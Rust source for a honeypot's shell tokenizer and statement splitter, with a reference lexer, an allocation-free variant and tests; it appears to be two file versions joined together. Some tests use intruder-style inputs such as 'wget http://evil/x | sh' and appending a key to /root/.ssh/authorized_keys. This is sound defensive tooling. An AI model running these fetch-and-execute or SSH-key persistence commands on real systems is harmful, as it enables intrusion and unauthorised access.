                b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b'>' | b'<' => break,
                b'\'' => {
                    self.pos += 1;
                    while let Some(c) = self.bump() {
                        if c == b'\'' {
                            break;
                        }
                        w.push(c as char);
                    }
                }
                b'"' => {
                    self.pos += 1;
                    while let Some(c) = self.bump() {
                        match c {
                            b'"' => break,
                            b'\\' => {
                                // Inside double quotes, backslash escapes \ " $ `
                                match self.peek() {
                                    Some(n @ (b'\\' | b'"' | b'$' | b'`')) => {
                                        w.push(n as char);
                                        self.pos += 1;
                                    }
                                    _ => w.push('\\'),
                                }
                            }
                            _ => w.push(c as char),
                        }
                    }
                }
                b'\\' => {
                    self.pos += 1;
                    if let Some(c) = self.bump() {
                        w.push(c as char);
                    }
                }
                _ => {
                    w.push(b as char);
                    self.pos += 1;
                }
            }
        }
        w
    }
}

/// Parse an input line into statements (pipelines with chaining info).
pub fn split_statements(input: &str) -> Vec<Statement> {
    let tokens = Lexer::new(input).tokenize();
    let mut stmts = Vec::new();
    let mut pipeline: Vec<SimpleCommand> = Vec::new();
    let mut cur = SimpleCommand::default();
    let mut it = tokens.into_iter().peekable();

    // Take the word following a redirection operator, if present.
    fn redir_target(it: &mut std::iter::Peekable<std::vec::IntoIter<Token>>) -> Option<String> {
        match it.peek() {
            Some(Token::Word(_)) => {
                if let Some(Token::Word(w)) = it.next() {
                    Some(w)
                } else {
                    unreachable!()
                }
            }
            _ => None,
        }
    }

    // Flush helpers keep structure flat.
    fn flush_cmd(pipeline: &mut Vec<SimpleCommand>, cur: &mut SimpleCommand) {
        if !cur.argv.is_empty() || !cur.redirs.is_empty() {
            pipeline.push(std::mem::take(cur));
        }
    }
    fn flush_stmt(stmts: &mut Vec<Statement>, pipeline: &mut Vec<SimpleCommand>, chain: Chain) {
        if !pipeline.is_empty() {
            stmts.push(Statement {
                pipeline: std::mem::take(pipeline),
                chain,
            });
        }
    }

    while let Some(tok) = it.next() {
        match tok {
            Token::Word(w) => cur.argv.push(w),
            Token::Pipe => flush_cmd(&mut pipeline, &mut cur),
            Token::Semi => {
                flush_cmd(&mut pipeline, &mut cur);
                flush_stmt(&mut stmts, &mut pipeline, Chain::Always);
            }
            Token::AndIf => {
                flush_cmd(&mut pipeline, &mut cur);
                flush_stmt(&mut stmts, &mut pipeline, Chain::And);
            }
            Token::OrIf => {
                flush_cmd(&mut pipeline, &mut cur);
                flush_stmt(&mut stmts, &mut pipeline, Chain::Or);
            }
            Token::RedirOut => {
                if let Some(t) = redir_target(&mut it) {
                    cur.redirs.push(Redirection::Out(t));
                }
            }
            Token::RedirAppend => {
                if let Some(t) = redir_target(&mut it) {
                    cur.redirs.push(Redirection::Append(t));
                }
            }
            Token::RedirIn => {
                if let Some(t) = redir_target(&mut it) {
                    cur.redirs.push(Redirection::In(t));
                }
            }
            Token::RedirErr => {
                if let Some(t) = redir_target(&mut it) {
                    cur.redirs.push(Redirection::Err(t));
                }
            }
            Token::RedirErrToOut => cur.redirs.push(Redirection::ErrToOut),
        }
    }
    flush_cmd(&mut pipeline, &mut cur);
    flush_stmt(&mut stmts, &mut pipeline, Chain::Always);
    stmts
}

/// Split a recorded command string at `;` and `|` only — the segmentation the
/// paper applies when counting "most popular commands" (Section 8.1).
pub fn split_for_popularity(input: &str) -> Vec<String> {
    split_statements(input)
        .into_iter()
        .flat_map(|s| s.pipeline.into_iter())
        .filter(|c| !c.argv.is_empty())
        .map(|c| c.argv.join(" "))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn simple_words() {
        let s = split_statements("uname -a");
        assert_eq!(s.len(), 1);
        assert_eq!(s[0].pipeline[0].argv, vec!["uname", "-a"]);
    }

    #[test]
    fn semicolons_split_statements() {
        let s = split_statements("free -m; uname; w");
        assert_eq!(s.len(), 3);
        assert_eq!(s[1].pipeline[0].argv, vec!["uname"]);
    }

    #[test]
    fn and_or_chains() {
        let s = split_statements("wget http://x/a && chmod 777 a || echo fail");
        assert_eq!(s.len(), 3);
        assert_eq!(s[0].chain, Chain::And);
        assert_eq!(s[1].chain, Chain::Or);
        assert_eq!(s[2].chain, Chain::Always);
    }

    #[test]
    fn pipeline_grouping() {
        let s = split_statements("cat /proc/cpuinfo | grep model | head -1");
        assert_eq!(s.len(), 1);
        assert_eq!(s[0].pipeline.len(), 3);
        assert_eq!(s[0].pipeline[2].argv, vec!["head", "-1"]);
    }

    #[test]
    fn quotes_and_escapes() {
        let s = split_statements(r#"echo 'a b' "c d" e\ f"#);
        assert_eq!(s[0].pipeline[0].argv, vec!["echo", "a b", "c d", "e f"]);
    }

    #[test]
    fn double_quote_escapes() {
        let s = split_statements(r#"echo "a\"b" "x\\y" "p\qr""#);
        assert_eq!(s[0].pipeline[0].argv, vec!["echo", "a\"b", "x\\y", "p\\qr"]);
    }

    #[test]
    fn redirections() {
        let s = split_statements("echo key >> /root/.ssh/authorized_keys");
        let cmd = &s[0].pipeline[0];
        assert_eq!(cmd.argv, vec!["echo", "key"]);
        assert_eq!(
            cmd.redirs,
            vec![Redirection::Append("/root/.ssh/authorized_keys".into())]
        );
    }

    #[test]
    fn stderr_redirections() {
        let s = split_statements("wget http://x/a 2>/dev/null 2>&1");
        let cmd = &s[0].pipeline[0];
        assert_eq!(
            cmd.redirs,
            vec![Redirection::Err("/dev/null".into()), Redirection::ErrToOut,]
        );
    }

    #[test]
    fn word_starting_with_two_is_not_stderr_redir() {
        let s = split_statements("sleep 2");
        assert_eq!(s[0].pipeline[0].argv, vec!["sleep", "2"]);
    }

    #[test]
    fn background_ampersand_acts_as_separator() {
        let s = split_statements("./mal &");
        assert_eq!(s.len(), 1);
        assert_eq!(s[0].pipeline[0].argv, vec!["./mal"]);
    }

    #[test]
    fn empty_and_whitespace_inputs() {
        assert!(split_statements("").is_empty());
        assert!(split_statements("   \n ; ;; ").is_empty());
    }

    #[test]
    fn unterminated_quote_is_total() {
        let s = split_statements("echo 'oops");
        assert_eq!(s[0].pipeline[0].argv, vec!["echo", "oops"]);
    }

    #[test]
    fn popularity_split_matches_paper_rule() {
        let parts = split_for_popularity("cd /tmp; wget http://evil/x | sh && echo done");
        // `;` and `|` split; `&&` splits too via statements — the paper's
        // tables show `&&`-joined snippets split as well.
        assert_eq!(
            parts,
            vec!["cd /tmp", "wget http://evil/x", "sh", "echo done"]
        );
    }

    proptest! {
        /// Lexer is total and never panics.
        #[test]
        fn prop_lexer_total(input in ".{0,200}") {
            let _ = split_statements(&input);
        }

        /// Quoting a word always yields exactly that word back.
        #[test]
        fn prop_single_quote_roundtrip(w in "[ -~&&[^']]{1,40}") {
            let s = split_statements(&format!("echo '{w}'"));
            prop_assert_eq!(&s[0].pipeline[0].argv[1], &w);
        }
    }
}
