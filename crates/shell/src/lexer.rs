//! Shell input tokenizer and statement splitter.
//!
//! Handles the subset of POSIX shell syntax that honeypot intruders actually
//! use (and that Cowrie parses): single/double quotes, backslash escapes,
//! word splitting, statement separators (`;`, `&&`, `||`, `&`, newline),
//! pipelines (`|`), and redirections (`>`, `>>`, `<`, `2>`, `2>&1`).
//! Variable and command substitution are *not* expanded — intruder scripts
//! are recorded and emulated, not faithfully interpreted — matching Cowrie's
//! medium-interaction behaviour.
//!
//! Two parsers share one grammar:
//!
//! * [`LineBuf`] — the hot path. A reusable arena: word bytes land in one
//!   scratch `String`, argv/redirection/statement structure in index vectors,
//!   so re-parsing line after line performs **zero heap allocations** once
//!   the buffers have grown to the session's high-water mark. Consumers walk
//!   the borrowed views ([`Words`], [`CmdView`], [`StmtView`]).
//! * [`reference`] — the original allocating lexer, kept verbatim as the
//!   differential oracle (`tests/fuzz_lexer_equiv.rs` asserts the two agree
//!   token-for-token on arbitrary byte soup, hostile quoting included).
//!
//! The owned [`Statement`]/[`SimpleCommand`] types remain the serde-facing
//! boundary; [`split_statements`] produces them from a `LineBuf` parse.

use serde::{Deserialize, Serialize};

/// One token from the lexer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Token {
    /// A word (after quote/escape processing).
    Word(String),
    /// `;`, `&`, or newline.
    Semi,
    /// `&&`
    AndIf,
    /// `||`
    OrIf,
    /// `|`
    Pipe,
    /// `>` (fd 1)
    RedirOut,
    /// `>>` (fd 1, append)
    RedirAppend,
    /// `<`
    RedirIn,
    /// `2>`
    RedirErr,
    /// `2>&1`
    RedirErrToOut,
}

/// A redirection attached to a simple command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Redirection {
    /// `> target`
    Out(String),
    /// `>> target`
    Append(String),
    /// `< source`
    In(String),
    /// `2> target` (the honeypot discards stderr, but records the file write
    /// unless the target is /dev/null)
    Err(String),
    /// `2>&1`
    ErrToOut,
}

/// A simple command: argv plus redirections.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct SimpleCommand {
    /// Command name and arguments, in order. May be empty for bare
    /// redirections like `> file`.
    pub argv: Vec<String>,
    /// Redirections in source order.
    pub redirs: Vec<Redirection>,
}

impl SimpleCommand {
    /// Command name, if any.
    pub fn name(&self) -> Option<&str> {
        self.argv.first().map(|s| s.as_str())
    }
}

/// A statement: one pipeline (possibly a single command) plus the separator
/// that ended it. `cmd1 | cmd2 && cmd3` produces two statements.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Statement {
    /// The commands in the pipeline, left to right.
    pub pipeline: Vec<SimpleCommand>,
    /// How this statement was chained to the *next* one.
    pub chain: Chain,
}

/// Chaining operator between statements.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Chain {
    /// `;`, `&`, newline, or end of input.
    Always,
    /// `&&` — next runs only on success (the emulator treats all emulated
    /// commands as succeeding, so this matters only for bookkeeping).
    And,
    /// `||`
    Or,
}

pub use reference::Lexer;

// ---------------------------------------------------------------------------
// Borrowed, allocation-free parse: LineBuf and its views

/// Token in the [`LineBuf`] stream; `Word` indexes into the word-span table.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Tok {
    Word(u32),
    Semi,
    AndIf,
    OrIf,
    Pipe,
    RedirOut,
    RedirAppend,
    RedirIn,
    RedirErr,
    RedirErrToOut,
}

/// Redirection kind for the borrowed form.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum RedirKind {
    Out,
    Append,
    In,
    Err,
    ErrToOut,
}

#[derive(Debug, Clone, Copy)]
struct CmdSpan {
    /// Range into `LineBuf::argv` (word indices of this command's argv).
    argv: (u32, u32),
    /// Range into `LineBuf::redirs`.
    redirs: (u32, u32),
}

#[derive(Debug, Clone, Copy)]
struct StmtSpan {
    /// Range into `LineBuf::cmds`.
    cmds: (u32, u32),
    chain: Chain,
}

/// Reusable parse buffer: one `parse` call lexes and statement-splits a line
/// with all output stored in the buffer's own arenas. Steady-state reuse
/// (`parse` clears but never shrinks) performs no heap allocation.
#[derive(Debug, Default)]
pub struct LineBuf {
    /// Word-byte arena: every processed word's bytes, concatenated.
    text: String,
    /// Word spans into `text`.
    words: Vec<(u32, u32)>,
    /// Token stream of the last parse.
    toks: Vec<Tok>,
    /// Argv word indices, contiguous per command.
    argv: Vec<u32>,
    /// Redirections, contiguous per command. Target is a word index
    /// (unused for `ErrToOut`).
    redirs: Vec<(RedirKind, u32)>,
    /// Commands, contiguous per statement.
    cmds: Vec<CmdSpan>,
    /// Statements of the line.
    stmts: Vec<StmtSpan>,
}

impl LineBuf {
    /// A fresh, empty buffer.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of statements from the last [`LineBuf::parse`].
    pub fn len(&self) -> usize {
        self.stmts.len()
    }

    /// Did the last parse produce no statements?
    pub fn is_empty(&self) -> bool {
        self.stmts.is_empty()
    }

    fn word(&self, idx: u32) -> &str {
        let (s, e) = self.words[idx as usize];
        &self.text[s as usize..e as usize]
    }

    /// Parse one input line, replacing the previous contents. Grammar and
    /// byte-level word processing are identical to [`reference::Lexer`]
    /// (enforced by the differential fuzz oracle).
    pub fn parse(&mut self, line: &str) {
        self.text.clear();
        self.words.clear();
        self.toks.clear();
        self.argv.clear();
        self.redirs.clear();
        self.cmds.clear();
        self.stmts.clear();
        self.lex(line.as_bytes());
        self.split();
    }

    /// Tokenize — a transliteration of `reference::Lexer::tokenize` that
    /// appends word bytes to the arena instead of allocating a `String`
    /// per word.
    fn lex(&mut self, src: &[u8]) {
        let mut pos = 0usize;
        loop {
            while matches!(src.get(pos), Some(b' ') | Some(b'\t')) {
                pos += 1;
            }
            let Some(&b) = src.get(pos) else { break };
            match b {
                b'\n' | b';' => {
                    pos += 1;
                    self.toks.push(Tok::Semi);
                }
                b'&' => {
                    pos += 1;
                    if src.get(pos) == Some(&b'&') {
                        pos += 1;
                        self.toks.push(Tok::AndIf);
                    } else {
                        self.toks.push(Tok::Semi); // background `&` ends a statement
                    }
                }
                b'|' => {
                    pos += 1;
                    if src.get(pos) == Some(&b'|') {
                        pos += 1;
                        self.toks.push(Tok::OrIf);
                    } else {
                        self.toks.push(Tok::Pipe);
                    }
                }
                b'>' => {
                    pos += 1;
                    if src.get(pos) == Some(&b'>') {
                        pos += 1;
                        self.toks.push(Tok::RedirAppend);
                    } else {
                        self.toks.push(Tok::RedirOut);
                    }
                }
                b'<' => {
                    pos += 1;
                    self.toks.push(Tok::RedirIn);
                }
                b'2' if src.get(pos + 1) == Some(&b'>') => {
                    // `2>` / `2>&1` only when `2` starts a word.
                    pos += 2;
                    if src.get(pos) == Some(&b'&') && src.get(pos + 1) == Some(&b'1') {
                        pos += 2;
                        self.toks.push(Tok::RedirErrToOut);
                    } else {
                        self.toks.push(Tok::RedirErr);
                    }
                }
                _ => {
                    let w = self.read_word(src, &mut pos);
                    self.toks.push(Tok::Word(w));
                }
            }
        }
    }

    /// Read one word into the arena, processing quotes and escapes. Bytes are
    /// pushed as `u8 as char` — Latin-1 decoding, exactly like the reference
    /// lexer — so non-ASCII input reproduces the reference's `String` bytes.
    fn read_word(&mut self, src: &[u8], pos: &mut usize) -> u32 {
        let start = self.text.len() as u32;
        while let Some(&b) = src.get(*pos) {
            match b {
                b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b'>' | b'<' => break,
                b'\'' => {
                    *pos += 1;
                    while let Some(&c) = src.get(*pos) {
                        *pos += 1;
                        if c == b'\'' {
                            break;
                        }
                        self.text.push(c as char);
                    }
                }
                b'"' => {
                    *pos += 1;
                    while let Some(&c) = src.get(*pos) {
                        *pos += 1;
                        match c {
                            b'"' => break,
                            b'\\' => {
                                // Inside double quotes, backslash escapes \ " $ `
                                match src.get(*pos) {
                                    Some(&n @ (b'\\' | b'"' | b'$' | b'`')) => {
                                        self.text.push(n as char);
                                        *pos += 1;
                                    }
                                    _ => self.text.push('\\'),
                                }
                            }
                            _ => self.text.push(c as char),
                        }
                    }
                }
                b'\\' => {
                    *pos += 1;
                    if let Some(&c) = src.get(*pos) {
                        *pos += 1;
                        self.text.push(c as char);
                    }
                }
                _ => {
                    self.text.push(b as char);
                    *pos += 1;
                }
            }
        }
        let idx = self.words.len() as u32;
        self.words.push((start, self.text.len() as u32));
        idx
    }

    /// Statement split over the token stream — same flush discipline as
    /// `reference::split_statements`.
    fn split(&mut self) {
        let mut cmd_argv_start = 0u32;
        let mut cmd_redir_start = 0u32;
        let mut stmt_cmd_start = 0u32;
        let mut i = 0usize;

        macro_rules! flush_cmd {
            () => {{
                let argv_end = self.argv.len() as u32;
                let redir_end = self.redirs.len() as u32;
                if argv_end > cmd_argv_start || redir_end > cmd_redir_start {
                    self.cmds.push(CmdSpan {
                        argv: (cmd_argv_start, argv_end),
                        redirs: (cmd_redir_start, redir_end),
                    });
                    cmd_argv_start = argv_end;
                    cmd_redir_start = redir_end;
                }
            }};
        }
        macro_rules! flush_stmt {
            ($chain:expr) => {{
                let cmd_end = self.cmds.len() as u32;
                if cmd_end > stmt_cmd_start {
                    self.stmts.push(StmtSpan {
                        cmds: (stmt_cmd_start, cmd_end),
                        chain: $chain,
                    });
                    stmt_cmd_start = cmd_end;
                }
            }};
        }

        while i < self.toks.len() {
            let tok = self.toks[i];
            i += 1;
            match tok {
                Tok::Word(w) => self.argv.push(w),
                Tok::Pipe => flush_cmd!(),
                Tok::Semi => {
                    flush_cmd!();
                    flush_stmt!(Chain::Always);
                }
                Tok::AndIf => {
                    flush_cmd!();
                    flush_stmt!(Chain::And);
                }
                Tok::OrIf => {
                    flush_cmd!();
                    flush_stmt!(Chain::Or);
                }
                Tok::RedirOut | Tok::RedirAppend | Tok::RedirIn | Tok::RedirErr => {
                    let kind = match tok {
                        Tok::RedirOut => RedirKind::Out,
                        Tok::RedirAppend => RedirKind::Append,
                        Tok::RedirIn => RedirKind::In,
                        _ => RedirKind::Err,
                    };
                    // Take the word following the operator, if present.
                    if let Some(Tok::Word(w)) = self.toks.get(i).copied() {
                        i += 1;
                        self.redirs.push((kind, w));
                    }
                }
                Tok::RedirErrToOut => self.redirs.push((RedirKind::ErrToOut, 0)),
            }
        }
        flush_cmd!();
        flush_stmt!(Chain::Always);
        let _ = (cmd_argv_start, cmd_redir_start, stmt_cmd_start);
    }

    /// Iterate the parsed statements.
    pub fn statements(&self) -> impl ExactSizeIterator<Item = StmtView<'_>> + '_ {
        (0..self.stmts.len()).map(move |idx| StmtView { buf: self, idx })
    }

    /// Statement by index.
    pub fn statement(&self, idx: usize) -> StmtView<'_> {
        StmtView { buf: self, idx }
    }

    /// Materialize the owned form — the serde/compat boundary. This is the
    /// only allocating consumer of a parse.
    pub fn to_statements(&self) -> Vec<Statement> {
        self.statements()
            .map(|s| Statement {
                pipeline: s
                    .commands()
                    .map(|c| SimpleCommand {
                        argv: c.argv().iter().map(str::to_string).collect(),
                        redirs: c
                            .redirs()
                            .map(|r| match r {
                                RedirView::Out(t) => Redirection::Out(t.to_string()),
                                RedirView::Append(t) => Redirection::Append(t.to_string()),
                                RedirView::In(t) => Redirection::In(t.to_string()),
                                RedirView::Err(t) => Redirection::Err(t.to_string()),
                                RedirView::ErrToOut => Redirection::ErrToOut,
                            })
                            .collect(),
                    })
                    .collect(),
                chain: s.chain(),
            })
            .collect()
    }
}

/// Lex `line` into `buf` and call `f` with the head word (the command
/// name) of every simple command — across pipelines and `;`/`&&`/`||`
/// chains, in source order. Commands with no name (bare redirections,
/// empty segments) are skipped. Reuses `buf`'s arenas, so steady-state
/// callers allocate nothing; the clustering feature extractor drives this
/// over the interned command pool to build its n-gram vocabulary.
pub fn for_each_command_head(buf: &mut LineBuf, line: &str, mut f: impl FnMut(&str)) {
    buf.parse(line);
    for stmt in buf.statements() {
        for cmd in stmt.commands() {
            if let Some(name) = cmd.name() {
                f(name);
            }
        }
    }
}

/// Borrowed view of one statement.
#[derive(Clone, Copy)]
pub struct StmtView<'a> {
    buf: &'a LineBuf,
    idx: usize,
}

impl<'a> StmtView<'a> {
    /// Chain operator to the next statement.
    pub fn chain(&self) -> Chain {
        self.buf.stmts[self.idx].chain
    }

    /// Number of commands in the pipeline.
    pub fn pipeline_len(&self) -> usize {
        let (s, e) = self.buf.stmts[self.idx].cmds;
        (e - s) as usize
    }

    /// Iterate the pipeline's commands left to right.
    pub fn commands(&self) -> impl ExactSizeIterator<Item = CmdView<'a>> + 'a {
        let buf = self.buf;
        let (s, e) = self.buf.stmts[self.idx].cmds;
        (s..e).map(move |idx| CmdView {
            buf,
            idx: idx as usize,
        })
    }
}

/// Borrowed view of one simple command.
#[derive(Clone, Copy)]
pub struct CmdView<'a> {
    buf: &'a LineBuf,
    idx: usize,
}

impl<'a> CmdView<'a> {
    /// The command's argv as a borrowed word list.
    pub fn argv(&self) -> Words<'a> {
        let (s, e) = self.buf.cmds[self.idx].argv;
        Words {
            buf: self.buf,
            start: s,
            end: e,
        }
    }

    /// Command name, if any.
    pub fn name(&self) -> Option<&'a str> {
        self.argv().first()
    }

    /// Iterate the redirections in source order.
    pub fn redirs(&self) -> impl ExactSizeIterator<Item = RedirView<'a>> + 'a {
        let buf = self.buf;
        let (s, e) = self.buf.cmds[self.idx].redirs;
        (s..e).map(move |i| {
            let (kind, target) = buf.redirs[i as usize];
            match kind {
                RedirKind::Out => RedirView::Out(buf.word(target)),
                RedirKind::Append => RedirView::Append(buf.word(target)),
                RedirKind::In => RedirView::In(buf.word(target)),
                RedirKind::Err => RedirView::Err(buf.word(target)),
                RedirKind::ErrToOut => RedirView::ErrToOut,
            }
        })
    }
}

/// Borrowed redirection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirView<'a> {
    /// `> target`
    Out(&'a str),
    /// `>> target`
    Append(&'a str),
    /// `< source`
    In(&'a str),
    /// `2> target`
    Err(&'a str),
    /// `2>&1`
    ErrToOut,
}

/// Borrowed argv: a copyable window over a command's words.
#[derive(Clone, Copy)]
pub struct Words<'a> {
    buf: &'a LineBuf,
    start: u32,
    end: u32,
}

impl<'a> Words<'a> {
    /// Number of words.
    pub fn len(&self) -> usize {
        (self.end - self.start) as usize
    }

    /// Is the argv empty?
    pub fn is_empty(&self) -> bool {
        self.start == self.end
    }

    /// Word by position.
    pub fn get(&self, i: usize) -> Option<&'a str> {
        let idx = self.start as usize + i;
        if idx < self.end as usize {
            Some(self.buf.word(self.buf.argv[idx]))
        } else {
            None
        }
    }

    /// First word (the command name).
    pub fn first(&self) -> Option<&'a str> {
        self.get(0)
    }

    /// Iterate the words.
    pub fn iter(&self) -> impl DoubleEndedIterator<Item = &'a str> + ExactSizeIterator + 'a {
        let buf = self.buf;
        (self.start..self.end).map(move |i| buf.word(buf.argv[i as usize]))
    }

    /// The argv with the first `n` words dropped (saturating).
    pub fn tail(&self, n: usize) -> Words<'a> {
        Words {
            buf: self.buf,
            start: (self.start + n as u32).min(self.end),
            end: self.end,
        }
    }

    /// Value following a `flag` word (e.g. `-n 5`), if present.
    pub fn value_of(&self, flag: &str) -> Option<&'a str> {
        let mut it = self.iter();
        while let Some(w) = it.next() {
            if w == flag {
                return it.next();
            }
        }
        None
    }

    /// Does any word equal `w`?
    pub fn contains(&self, w: &str) -> bool {
        self.iter().any(|a| a == w)
    }
}

// ---------------------------------------------------------------------------
// Owned boundary

/// Parse an input line into owned statements (pipelines with chaining info).
///
/// Convenience/serde boundary over [`LineBuf`]; hot paths hold a reusable
/// `LineBuf` instead.
pub fn split_statements(input: &str) -> Vec<Statement> {
    let mut buf = LineBuf::new();
    buf.parse(input);
    buf.to_statements()
}

/// Split a recorded command string at `;` and `|` only — the segmentation the
/// paper applies when counting "most popular commands" (Section 8.1).
pub fn split_for_popularity(input: &str) -> Vec<String> {
    split_statements(input)
        .into_iter()
        .flat_map(|s| s.pipeline.into_iter())
        .filter(|c| !c.argv.is_empty())
        .map(|c| c.argv.join(" "))
        .collect()
}

// ---------------------------------------------------------------------------
// Reference implementation (pre-refactor), kept as the differential oracle

/// The original allocating lexer/splitter, preserved byte-for-byte as the
/// oracle for the arena parser. Not used on any hot path; public so the
/// differential fuzz suite (`tests/fuzz_lexer_equiv.rs`) can drive it.
#[doc(hidden)]
pub mod reference {
    use super::{Chain, Redirection, SimpleCommand, Statement, Token};

    /// The tokenizer.
    pub struct Lexer<'a> {
        src: &'a [u8],
        pos: usize,
    }

    impl<'a> Lexer<'a> {
        /// Lex a full input string into tokens.
        pub fn new(src: &'a str) -> Self {
            Lexer {
                src: src.as_bytes(),
                pos: 0,
            }
        }

        fn peek(&self) -> Option<u8> {
            self.src.get(self.pos).copied()
        }

        fn bump(&mut self) -> Option<u8> {
            let b = self.peek()?;
            self.pos += 1;
            Some(b)
        }

        /// Produce all tokens. The lexer is total: any byte sequence yields a
        /// token stream (unterminated quotes consume to end of input, like most
        /// shells in non-interactive mode).
        pub fn tokenize(mut self) -> Vec<Token> {
            let mut out = Vec::new();
            loop {
                // Skip horizontal whitespace.
                while matches!(self.peek(), Some(b' ') | Some(b'\t')) {
                    self.pos += 1;
                }
                let Some(b) = self.peek() else { break };
                match b {
                    b'\n' | b';' => {
                        self.pos += 1;
                        out.push(Token::Semi);
                    }
                    b'&' => {
                        self.pos += 1;
                        if self.peek() == Some(b'&') {
                            self.pos += 1;
                            out.push(Token::AndIf);
                        } else {
                            out.push(Token::Semi); // background `&` ends a statement
                        }
                    }
                    b'|' => {
                        self.pos += 1;
                        if self.peek() == Some(b'|') {
                            self.pos += 1;
                            out.push(Token::OrIf);
                        } else {
                            out.push(Token::Pipe);
                        }
                    }
                    b'>' => {
                        self.pos += 1;
                        if self.peek() == Some(b'>') {
                            self.pos += 1;
                            out.push(Token::RedirAppend);
                        } else {
                            out.push(Token::RedirOut);
                        }
                    }
                    b'<' => {
                        self.pos += 1;
                        out.push(Token::RedirIn);
                    }
                    b'2' if self.src.get(self.pos + 1) == Some(&b'>') => {
                        // `2>` / `2>&1` only when `2` starts a word.
                        self.pos += 2;
                        if self.src.get(self.pos) == Some(&b'&')
                            && self.src.get(self.pos + 1) == Some(&b'1')
                        {
                            self.pos += 2;
                            out.push(Token::RedirErrToOut);
                        } else {
                            out.push(Token::RedirErr);
                        }
                    }
                    _ => {
                        let w = self.read_word();
                        out.push(Token::Word(w));
                    }
                }
            }
            out
        }

        /// Read one word, processing quotes and escapes.
        fn read_word(&mut self) -> String {
            let mut w = String::new();
            while let Some(b) = self.peek() {
                match b {
                    b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b'>' | b'<' => break,
                    b'\'' => {
                        self.pos += 1;
                        while let Some(c) = self.bump() {
                            if c == b'\'' {
                                break;
                            }
                            w.push(c as char);
                        }
                    }
                    b'"' => {
                        self.pos += 1;
                        while let Some(c) = self.bump() {
                            match c {
                                b'"' => break,
                                b'\\' => {
                                    // Inside double quotes, backslash escapes \ " $ `
                                    match self.peek() {
                                        Some(n @ (b'\\' | b'"' | b'$' | b'`')) => {
                                            w.push(n as char);
                                            self.pos += 1;
                                        }
                                        _ => w.push('\\'),
                                    }
                                }
                                _ => w.push(c as char),
                            }
                        }
                    }
                    b'\\' => {
                        self.pos += 1;
                        if let Some(c) = self.bump() {
                            w.push(c as char);
                        }
                    }
                    _ => {
                        w.push(b as char);
                        self.pos += 1;
                    }
                }
            }
            w
        }
    }

    /// Parse an input line into statements (pipelines with chaining info).
    pub fn split_statements(input: &str) -> Vec<Statement> {
        let tokens = Lexer::new(input).tokenize();
        let mut stmts = Vec::new();
        let mut pipeline: Vec<SimpleCommand> = Vec::new();
        let mut cur = SimpleCommand::default();
        let mut it = tokens.into_iter().peekable();

        // Take the word following a redirection operator, if present.
        fn redir_target(it: &mut std::iter::Peekable<std::vec::IntoIter<Token>>) -> Option<String> {
            match it.peek() {
                Some(Token::Word(_)) => {
                    if let Some(Token::Word(w)) = it.next() {
                        Some(w)
                    } else {
                        unreachable!()
                    }
                }
                _ => None,
            }
        }

        // Flush helpers keep structure flat.
        fn flush_cmd(pipeline: &mut Vec<SimpleCommand>, cur: &mut SimpleCommand) {
            if !cur.argv.is_empty() || !cur.redirs.is_empty() {
                pipeline.push(std::mem::take(cur));
            }
        }
        fn flush_stmt(stmts: &mut Vec<Statement>, pipeline: &mut Vec<SimpleCommand>, chain: Chain) {
            if !pipeline.is_empty() {
                stmts.push(Statement {
                    pipeline: std::mem::take(pipeline),
                    chain,
                });
            }
        }

        while let Some(tok) = it.next() {
            match tok {
                Token::Word(w) => cur.argv.push(w),
                Token::Pipe => flush_cmd(&mut pipeline, &mut cur),
                Token::Semi => {
                    flush_cmd(&mut pipeline, &mut cur);
                    flush_stmt(&mut stmts, &mut pipeline, Chain::Always);
                }
                Token::AndIf => {
                    flush_cmd(&mut pipeline, &mut cur);
                    flush_stmt(&mut stmts, &mut pipeline, Chain::And);
                }
                Token::OrIf => {
                    flush_cmd(&mut pipeline, &mut cur);
                    flush_stmt(&mut stmts, &mut pipeline, Chain::Or);
                }
                Token::RedirOut => {
                    if let Some(t) = redir_target(&mut it) {
                        cur.redirs.push(Redirection::Out(t));
                    }
                }
                Token::RedirAppend => {
                    if let Some(t) = redir_target(&mut it) {
                        cur.redirs.push(Redirection::Append(t));
                    }
                }
                Token::RedirIn => {
                    if let Some(t) = redir_target(&mut it) {
                        cur.redirs.push(Redirection::In(t));
                    }
                }
                Token::RedirErr => {
                    if let Some(t) = redir_target(&mut it) {
                        cur.redirs.push(Redirection::Err(t));
                    }
                }
                Token::RedirErrToOut => cur.redirs.push(Redirection::ErrToOut),
            }
        }
        flush_cmd(&mut pipeline, &mut cur);
        flush_stmt(&mut stmts, &mut pipeline, Chain::Always);
        stmts
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn simple_words() {
        let s = split_statements("uname -a");
        assert_eq!(s.len(), 1);
        assert_eq!(s[0].pipeline[0].argv, vec!["uname", "-a"]);
    }

    #[test]
    fn command_heads_walk_chains_and_pipes() {
        let mut buf = LineBuf::new();
        let mut heads = Vec::new();
        for_each_command_head(&mut buf, "cd /tmp && wget http://x/a | sh; rm -f a", |h| {
            heads.push(h.to_string())
        });
        assert_eq!(heads, vec!["cd", "wget", "sh", "rm"]);
        heads.clear();
        for_each_command_head(&mut buf, "   ", |h| heads.push(h.to_string()));
        assert!(heads.is_empty());
    }

    #[test]
    fn semicolons_split_statements() {
        let s = split_statements("free -m; uname; w");
        assert_eq!(s.len(), 3);
        assert_eq!(s[1].pipeline[0].argv, vec!["uname"]);
    }

    #[test]
    fn and_or_chains() {
        let s = split_statements("wget http://x/a && chmod 777 a || echo fail");
        assert_eq!(s.len(), 3);
        assert_eq!(s[0].chain, Chain::And);
        assert_eq!(s[1].chain, Chain::Or);
        assert_eq!(s[2].chain, Chain::Always);
    }

    #[test]
    fn pipeline_grouping() {
        let s = split_statements("cat /proc/cpuinfo | grep model | head -1");
